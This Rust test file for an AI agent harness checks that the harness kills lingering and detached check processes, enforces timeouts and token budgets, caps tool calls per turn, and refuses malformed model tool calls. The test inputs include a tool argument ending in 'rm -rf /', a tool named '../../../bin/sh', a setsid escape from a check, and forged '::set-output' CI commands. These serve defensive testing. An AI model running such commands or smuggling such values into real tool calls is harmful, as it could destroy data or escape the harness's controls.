fn checks_end(marker: &str, extra: &[&str]) {
    let ybs = Ybs::new();
    ybs.file(
        "t.yaml",
        &format!(
            "prompt: p\ncommit: false\npolicy: {{ default: allow }}\nchecks:\n  - name: linger\n    run: (sleep {marker}.1; echo never) & echo quick\n  - name: escape\n    run: setsid sh -c 'sleep {marker}.2' > /dev/null 2>&1 < /dev/null & echo bye\n  - name: flood\n    run: yes ::set-output name=x::y | head -c 30000000; exit 1\n  - name: hang\n    run: sleep {marker}.3\n    timeout: 2s\n"
        ),
    );
    ybs.cassette("t.cassette.json", vec![answer("ok")]);
    let started = Instant::now();
    let mut args = vec!["run", "t.yaml"];
    args.extend_from_slice(extra);
    let run = ybs.run(&args);
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "{:?}",
        started.elapsed()
    );
    run.expect_code(1);
    let transcript = ybs.json("ybs-out/t/transcript.json");
    let checks = transcript["checks"].as_array().unwrap();
    let named = |name: &str| checks.iter().find(|c| c["name"] == name).unwrap();
    assert_eq!(named("linger")["exit_code"], 0, "{checks:?}");
    assert_eq!(named("escape")["exit_code"], 0, "{checks:?}");
    assert_eq!(named("hang")["timed_out"], true, "{checks:?}");
    let flood = named("flood");
    assert_eq!(flood["exit_code"], 1);
    let output = flood["output"].as_str().unwrap_or_default();
    assert!(
        output.len() < 2 * 1024 * 1024,
        "{} bytes kept",
        output.len()
    );
    assert!(!run.stdout.contains("\n::set-output"), "a forged command");
    let deadline = Instant::now() + Duration::from_secs(3);
    loop {
        let left = processes_with(&format!("sleep {marker}"));
        if left.is_empty() {
            break;
        }
        assert!(Instant::now() < deadline, "left behind: {left:?}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Malformed tool calls over the real OpenAI wire, in one turn: arguments
/// that are not JSON, a JSON array, JSON followed by more text, a tool
/// name with path traversal, no name at all. Each is refused with its
/// reason and the others still run; then a stream that ends cleanly in
/// the middle of a call (no `finish_reason`, no `[DONE]`) is retried and
/// its call runs once, from the complete retry.
#[test]
fn malformed_calls_on_the_wire_are_refused_one_by_one_and_a_short_stream_is_retried() {
    let hello = json!({"path": "hello.txt", "content": "hi\n"}).to_string();
    let turn = wire::sse_done(&wire::openai_call_chunks(
        &[
            ("c1", "write_file", "not json {"),
            ("c2", "write_file", "[1,2]"),
            (
                "c3",
                "write_file",
                r#"{"path":"x.txt","content":"x"} rm -rf /"#,
            ),
            ("c4", "../../../bin/sh", "{}"),
            ("c5", "", "{}"),
            ("c6", "write_file", &hello),
        ],
        7,
        true,
    ));
    let again = json!({"path": "again.txt", "content": "again\n"}).to_string();
    let chunks = wire::openai_call_chunks(&[("c7", "write_file", &again)], 6, false);
    let short: String = chunks[..3]
        .iter()
        .map(|chunk| format!("data: {chunk}\n\n"))
        .collect();
    let (ybs, server, run) = against(vec![
        Reply::sse(&turn),
        Reply::sse(&short),
        Reply::sse(&wire::sse_done(&chunks)),
        wire::openai_sse_answer("done"),
    ]);
    run.expect_code(0);
    assert_eq!(server.requests().len(), 4, "{}", run.stderr);
    assert_eq!(ybs.read("hello.txt"), "hi\n");
    assert_eq!(ybs.read("again.txt"), "again\n");
    assert!(!ybs.exists("x.txt"));
    let transcript = ybs.json("ybs-out/t/transcript.json");
    let entries = tool_calls(&transcript);
    assert_eq!(entries.len(), 7, "{entries:#?}");
    for (entry, why) in entries.iter().zip([
        "not valid JSON",
        "must be a JSON object",
        "not valid JSON",
        "unknown tool",
        "names no tool",
    ]) {
        assert_eq!(entry["result"]["ran"], false, "{entry}");
        let told = entry["result"]["output"].as_str().unwrap();
        assert!(told.contains(why), "{why}: {told}");
    }
    assert_eq!(entries[5]["result"]["ran"], true);
    assert_eq!(entries[6]["result"]["ran"], true);
    let retries = run
        .events("t")
        .iter()
        .filter(|event| event["type"] == "llm.retry")
        .count();
    assert_eq!(retries, 1);
}

// ---------------------------------------------------------------------------
// S10: limits.

/// `limits.timeout` is the task's wall time, checks included: a check
/// that would run for minutes used to run to its own 10-minute timeout
/// and the task passed, long past its 3 s. Now the check is cut when the
/// task's time is up, the checks after it do not run, and the reason is
/// `timeout`, with the process gone.
#[test]
fn the_task_timeout_bounds_the_checks() {
    let marker = format!("34{}", std::process::id() % 100_000);
    let ybs = Ybs::new();
    ybs.file(
        "t.yaml",
        &format!(
            "prompt: p\ncommit: false\npolicy: {{ default: allow }}\nlimits: {{ timeout: 3s }}\nchecks:\n  - name: quick\n    run: sleep 1\n  - name: slow\n    run: sleep {marker}\n  - name: later\n    run: touch later.txt\n"
        ),
    );
    ybs.cassette("t.cassette.json", vec![answer("ok")]);
    let started = Instant::now();
    let run = ybs.run(["run", "t.yaml"]);
    let took = started.elapsed();
    run.expect_code(1);
    assert!(took < Duration::from_secs(10), "took {took:?}");
    let transcript = ybs.json("ybs-out/t/transcript.json");
    assert_eq!(transcript["reason"], "timeout", "{transcript}");
    let checks: Vec<(&str, bool)> = transcript["checks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["name"].as_str().unwrap(),
                c["timed_out"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(checks, [("quick", false), ("slow", true)]);
    assert!(!ybs.exists("later.txt"), "a check ran after the timeout");
    assert!(processes_with(&format!("sleep {marker}")).is_empty());
}

/// A provider reporting absurd usage (`u64::MAX` tokens, twice) used to
/// overflow into a panic (and, wrapped in a release build, into a small
/// total that slips under `max_total_tokens`); counts saturate, so the
/// token budget ends the run with its own reason.
#[test]
fn absurd_token_counts_saturate_and_the_token_budget_still_stops_the_run() {
    let ybs = Ybs::new();
    ybs.file(
        "t.yaml",
        "prompt: p\ncommit: false\npolicy: { default: allow }\nlimits: { max_total_tokens: 1000 }\n",
    );
    let mut turn = calls(&[("list_files", json!({}))]);
    turn["response"]["usage"] = json!({"input_tokens": u64::MAX, "output_tokens": u64::MAX});
    let mut last = answer("never");
    last["response"]["usage"] = json!({"input_tokens": u64::MAX, "output_tokens": 5});
    ybs.cassette("t.cassette.json", vec![turn, last]);
    let run = ybs.run(["run", "t.yaml"]);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    run.expect_code(1);
    let transcript = ybs.json("ybs-out/t/transcript.json");
    assert_eq!(transcript["reason"], "token_budget", "{transcript}");
    assert_eq!(transcript["usage"]["input_tokens"], u64::MAX);
    crate::suite::run::well_formed(&ybs.path().join("ybs-out/junit.xml"));
}

/// A turn of 40 calls: the first 32 run, the other 8 are refused with
/// the limit's own rule and reason, and every call still gets a result.
#[test]
fn a_turn_of_forty_calls_runs_thirty_two_and_refuses_the_rest() {
    let ybs = Ybs::new();
    ybs.file(
        "t.yaml",
        "prompt: p\ncommit: false\npolicy: { default: allow }\n",
    );
    let many: Vec<(String, Value)> = (0..40)
        .map(|i| {
            (
                "write_file".to_owned(),
                json!({"path": format!("f{i:02}.txt"), "content": "x"}),
            )
        })
        .collect();
    let borrowed: Vec<(&str, Value)> = many
        .iter()
        .map(|(name, arguments)| (name.as_str(), arguments.clone()))
        .collect();
    ybs.cassette("t.cassette.json", vec![calls(&borrowed), answer("ok")]);
    let run = ybs.run(["run", "t.yaml"]);
    run.expect_code(0);
    let transcript = ybs.json("ybs-out/t/transcript.json");
    let entries = tool_calls(&transcript);
    assert_eq!(entries.len(), 40);
    let tool_messages = transcript["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["role"] == "tool")
        .count();
    assert_eq!(tool_messages, 40, "every call gets a result");
    for (i, entry) in entries.iter().enumerate() {
        let ran = entry["result"]["ran"].as_bool().unwrap();
        assert_eq!(ran, i < 32, "{entry}");
        assert_eq!(ybs.exists(&format!("f{i:02}.txt")), i < 32);
        if !ran {
            assert_eq!(entry["decision"]["rule"], "limit:tool_calls_per_turn");
            let told = entry["result"]["output"].as_str().unwrap();
            assert!(told.contains("too many tool calls in one turn"), "{told}");
        }
    }
}

/// SIGINT while a check runs, then SIGINT and SIGTERM again at once (an
/// impatient user, a CI runner's cancel): one exit 130, the check's
/// processes end, and the outputs are whole.
#[test]
fn repeated_signals_during_a_check_end_the_run_once_and_cleanly() {
    let marker = format!("33{}", std::process::id() % 100_000);
    let ybs = Ybs::new();
    ybs.file(
        "t.yaml",
        &format!(
            "prompt: p\ncommit: false\npolicy: {{ default: allow }}\nchecks:\n  - name: slow\n    run: sleep {marker} & sleep {marker}; wait\n"
        ),
    );
    ybs.cassette("t.cassette.json", vec![answer("ok")]);
    let child = ybs
        .command()
        .args(["run", "t.yaml"])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    while processes_with(&format!("sleep {marker}")).len() < 2 {
        assert!(started.elapsed() < Duration::from_secs(20), "no check ran");
        std::thread::sleep(Duration::from_millis(20));
    }
    let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).unwrap());
    use nix::sys::signal::{Signal, kill};
    kill(pid, Signal::SIGINT).unwrap();
    std::thread::sleep(Duration::from_millis(30));
    let _ = kill(pid, Signal::SIGINT);
    let _ = kill(pid, Signal::SIGTERM);
    let sent = Instant::now();
    let output = child.wait_with_output().unwrap();
    assert!(sent.elapsed() < Duration::from_secs(10));
    assert_eq!(
        output.status.code(),
        Some(130),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let transcript = ybs.json("ybs-out/t/transcript.json");
    assert_eq!(transcript["reason"], "interrupted");
    crate::suite::run::well_formed(&ybs.path().join("ybs-out/junit.xml"));
    for line in ybs.read("ybs-out/t/events.jsonl").lines() {
        serde_json::from_str::<Value>(line).unwrap();
    }
    let deadline = Instant::now() + Duration::from_secs(3);
    while !processes_with(&format!("sleep {marker}")).is_empty() {
        assert!(Instant::now() < deadline, "the check's processes were left");
        std::thread::sleep(Duration::from_millis(50));
    }
}
